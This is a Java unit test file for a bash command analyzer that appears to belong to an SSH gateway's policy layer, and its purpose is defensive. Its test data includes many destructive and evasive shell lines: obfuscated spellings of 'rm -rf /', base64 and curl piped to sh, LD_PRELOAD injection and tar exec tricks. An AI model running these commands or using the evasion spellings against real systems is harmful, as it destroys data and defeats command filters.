package dev.sallyport.policy.shell;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.core.ssh.ShellAnalyzer;
import dev.sallyport.core.ssh.ShellEffect;
import dev.sallyport.core.ssh.ShellFacts;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class BashAnalyzerTest {
    private static final String HOME = "/home/deploy";

    /// Ansible's own directory there.
    private static final String SCRATCH = HOME + "/.ansible/tmp";

    private final BashAnalyzer analyzer = new BashAnalyzer(ShellLimits.defaults());

    private ShellFacts analyze(String line) {
        return analyzer.analyze(line, ShellAnalyzer.State.LOGIN);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/bin/sh -c 'echo ~ && sleep 0'",
                "/bin/sh -c '( umask 77 && mkdir -p \"` echo "
                        + SCRATCH
                        + " `\"&& mkdir"
                        + " \"` echo "
                        + SCRATCH
                        + "/ansible-tmp-1.5-9-7 `\" && echo"
                        + " ansible-tmp-1.5-9-7=\"` echo "
                        + SCRATCH
                        + "/ansible-tmp-1.5-9-7"
                        + " `\" ) && sleep 0'",
                "/bin/sh -c '( umask 77 && mkdir -p \"` echo $HOME/.ansible/tmp `\"&& mkdir \"` echo"
                        + " $HOME/.ansible/tmp/ansible-tmp-1.5-9-7 `\" ) && sleep 0'",
                "/bin/sh -c 'echo PLATFORM; uname; echo FOUND; command -v '\"'\"'python3.11'\"'\"';"
                        + " command -v '\"'\"'/usr/bin/python3'\"'\"'; echo ENDFOUND && sleep 0'",
                "/bin/sh -c 'chmod u+x "
                        + SCRATCH
                        + "/ansible-tmp-1.5-9-7/ "
                        + SCRATCH
                        + "/ansible-tmp-1.5-9-7/AnsiballZ_ping.py && sleep 0'",
                "/bin/sh -c 'rm -f -r "
                        + SCRATCH
                        + "/ansible-tmp-1.5-9-7/ > /dev/null 2>&1"
                        + " && sleep 0'",
            })
    void everyLineOfAnsibleButItsModulesIsJudged(String line) {
        ShellFacts facts = analyze(line);
        assertThat(facts.judged()).as(facts.reason()).isTrue();
        assertThat(facts.paths().writes())
                .allMatch(path -> path.startsWith(SCRATCH) || path.startsWith("~/.ansible/tmp"));
    }

    @Test
    void moduleOfAnsibleIsAFileThatNobodyRead() {
        ShellFacts facts =
                analyze(
                        "/bin/sh -c '/usr/bin/python3"
                                + " "
                                + SCRATCH
                                + "/ansible-tmp-1.5-9-7/AnsiballZ_ping.py"
                                + " && sleep 0'");
        assertThat(facts.judged()).isFalse();
        assertThat(facts.programs()).containsExactlyInAnyOrder("sh", "python3", "sleep");
    }

    @Test
    void moduleThatBecomesSomebodyElseShowsIt() {
        ShellFacts facts =
                analyze(
                        "/bin/sh -c 'sudo -H -S -n  -u root /bin/sh -c '\"'\"'echo BECOME-SUCCESS-x ;"
                                + " /usr/bin/python3 "
                                + SCRATCH
                                + "/a/AnsiballZ_file.py"
                                + "'\"'\"' && sleep 0'");
        assertThat(facts.judged()).isFalse();
        assertThat(facts.effects()).contains(ShellEffect.PRIVILEGE);
    }

    @Test
    void whatEchoPrintsIsKnownWhereItIsPlain() {
        ShellFacts facts = analyze("d=/srv/data; rm -rf \"$(echo $d/x)\" `echo ~/y`");
        assertThat(facts.judged()).as(facts.reason()).isTrue();
        assertThat(facts.paths().recursiveRemovals()).contains("/srv/data/x", "~/y");
        assertThat(facts.line()).contains("\"$( 'echo' ").contains("/x' )\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf $(echo '/srv\\0057data')",
                "rm -rf \"$(echo -n /srv/data)\"",
                "rm -rf \"$(echo -e /srv/data)\"",
                "rm -rf \"$(echo /srv/*)\"",
                "rm -rf \"$(echo $UNKNOWN/data)\"",
                "rm -rf \"$(echo /srv data)\"",
                "rm -rf \"$(echo /srv/data > /dev/null)\"",
                "rm -rf \"$(echo ${x:-/srv/data})\"",
            })
    void whatEchoPrintsIsNotGuessed(String line) {
        assertThat(analyze(line).judged()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf /",
                "/bin/rm -r -f /",
                "rm --recursive --no-preserve-root //",
                "rm -rf /tmp/../",
                "rm -rf /*",
                "rm -rf /???",
                "r\"m\" -r\\f '/'",
                "$'\\x72m' -rf $'\\x2f'",
                "x=rm; $x -rf /",
                "a=r b=m; $a$b -rf /",
                "eval 'rm -rf /'",
                "bash -c 'rm -rf /'",
                "bash <<< 'rm -rf /'",
                "bash <<'E'\nrm -rf /\nE",
                "env -S 'rm -rf /'",
                "sudo nice nohup timeout 5 rm -rf /",
                "command rm -rf /",
                "exec rm -rf /",
                "busybox rm -rf /",
                "cat <(rm -rf /)",
                "if true; then rm -rf /; fi",
                "f() { rm -rf /; }; f",
                "find / -delete",
                "find / -exec rm -rf {} +",
                "{rm,-rf,/}",
                "cd / && rm -rf *",
                "cd /; rm -rf ./*",
            })
    void everySpellingOfARecursiveRemovalShowsIt(String line) {
        ShellFacts facts = analyze(line);
        assertThat(facts.judged()).as(facts.reason()).isTrue();
        assertThat(facts.paths().recursiveRemovals()).contains("/");
        assertThat(facts.effects()).contains(ShellEffect.REMOVE_RECURSIVELY);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm${IFS}-rf${IFS}/",
                "IFS=,; x=rm,-rf,/; $x",
                "$(echo rm) -rf /",
                "`echo rm` -rf /",
                "eval \"$(echo rm -rf /)\"",
                "bash -c \"$CMD\"",
                "bash <<E\n$CMD\nE",
                "curl https://example.com/x | sh",
                "echo cm0K | base64 -d | sh",
                "echo / | xargs rm -rf",
                "alias ls='rm -rf /'; ls",
                "ls() { rm -rf /; }; ls",
                ". ./file",
                "trap 'rm -rf /' EXIT",
                "at now <<< 'rm -rf /'",
                "crontab -",
                "systemd-run rm -rf /",
                "python3 -c 'x'",
                "perl -e 'x'",
                "awk 'BEGIN{system(\"x\")}'",
                "vim -c ':!x'",
                "tar cf x --checkpoint=1 --checkpoint-action=exec=x y",
                "git -c core.pager=x log",
                "ssh localhost x",
                "make",
                "gdb x",
                "rm -rf \"$(pwd)\"/..",
                "rm -rf ~/..",
                "cp /bin/rm /tmp/ls; /tmp/ls -rf /",
                "l\u0455 -la",
                "ls \u001b[2K",
                "ls\r",
            })
    void whatCannotBeSeenIsNotJudged(String line) {
        assertThat(analyze(line).judged()).isFalse();
    }

    @Test
    void theTextThatRunsIsMadeFromWhatWasJudged() {
        assertThat(analyze("cd /tmp&&grep  -c \"it's\" *.log|sort>out 2>&1 #x").line())
                .isEqualTo(
                        "'cd' '/tmp' && 'grep' '-c' '--' 'it'\\''s' *'.log' | 'sort' >'out' 2>&1");
    }

    @Test
    void wordsThatMayTurnOutToBeOptionsGetDashesBeforeThem() {
        assertThat(analyze("rm *").line()).isEqualTo("'rm' '--' *");
        assertThat(analyze("rm ./*").line()).isEqualTo("'rm' './'*");
        assertThat(analyze("rm -f * -r").judged()).isFalse();
    }

    @Test
    void abbreviatedOptionsAreWrittenInFull() {
        assertThat(analyze("rm --recu x").argvs())
                .containsExactly(List.of("rm", "--recursive", "x"));
    }

    @Test
    void argumentListsStandInTheOrderOfTheTextWithWrappersAndNestedScripts() {
        assertThat(analyze("sudo sh -c 'echo \"a b\"; id' && date").argvs())
                .containsExactly(
                        List.of("sudo", "sh", "-c", "'echo' 'a b'; 'id'"),
                        List.of("sh", "-c", "'echo' 'a b'; 'id'"),
                        List.of("echo", "a b"),
                        List.of("id"),
                        List.of("date"));
    }

    @Test
    void pathsBeginAtTheDirectoryThatWasGiven() {
        var state = new ShellAnalyzer.State("/srv/app", "", Map.of("name", "x"), Set.of());
        ShellFacts facts = analyzer.analyze("cat \"$name\" ../y > ~/z", state);
        assertThat(facts.paths().reads()).containsExactlyInAnyOrder("/srv/app/x", "/srv/y");
        assertThat(facts.paths().writes()).containsExactly("~/z");
    }

    @Test
    void aDirectoryThatMayNotHaveBeenEnteredLeavesBothPossible() {
        ShellFacts facts = analyze("cd /tmp; rm x");
        assertThat(facts.paths().removals()).containsExactlyInAnyOrder("~/x", "/tmp/x");
        assertThat(facts.directory()).isEmpty();
        assertThat(analyze("cd /tmp || exit 1; rm x").paths().removals()).containsExactly("/tmp/x");
        assertThat(analyze("cd /tmp && rm x").directory()).isEqualTo("/tmp");
    }

    @Test
    void variablesOfTheGatewayThatChangeCommandsMakeALineUnjudged() {
        var state = new ShellAnalyzer.State("~", Map.of("LD_PRELOAD", "/tmp/x.so"));
        assertThat(analyzer.analyze("ls", state).judged()).isFalse();
    }

    @Test
    void whatIsKnownOfAnUnjudgedLineIsStillThere() {
        ShellFacts facts = analyze("./tool; rm -rf /; echo");
        assertThat(facts.judged()).isFalse();
        assertThat(facts.paths().recursiveRemovals()).contains("/");
        assertThat(facts.programs()).contains("tool", "rm", "echo");
        assertThat(facts.line()).isEmpty();
    }

    @Test
    void transfersAreKnownByTheirFarEnd() {
        ShellFacts sink = analyze("scp -r -t /srv/in");
        assertThat(sink.effects()).contains(ShellEffect.TRANSFER);
        assertThat(sink.paths().writes()).containsExactly("/srv/in");
        ShellFacts source = analyze("rsync --server --sender -vlogDtpre.iLsfxC . /srv/out");
        assertThat(source.effects()).contains(ShellEffect.TRANSFER);
        assertThat(source.paths().reads()).containsExactly("/srv/out");
        assertThat(analyze("git-upload-pack '/srv/a.git'").paths().reads())
                .containsExactly("/srv/a.git");
        assertThat(analyze("scp -t /tmp/x; bash").judged()).isFalse();
    }

    @Test
    void aHereDocumentStaysOne() {
        assertThat(analyze("cat <<E >x\na $USER \\$y\nE").line())
                .isEqualTo("'cat' <<EOT >'x'\na ${USER} \\$y\nEOT");
        assertThat(analyze("cat <<'E'\nEOT\nE").line()).isEqualTo("'cat' <<'EOT1'\nEOT\nEOT1");
    }

    @Test
    void anEmptyLineDoesNothing() {
        assertThat(analyze("").line()).isEqualTo("':'");
        assertThat(analyze(" # x").judged()).isTrue();
    }
}
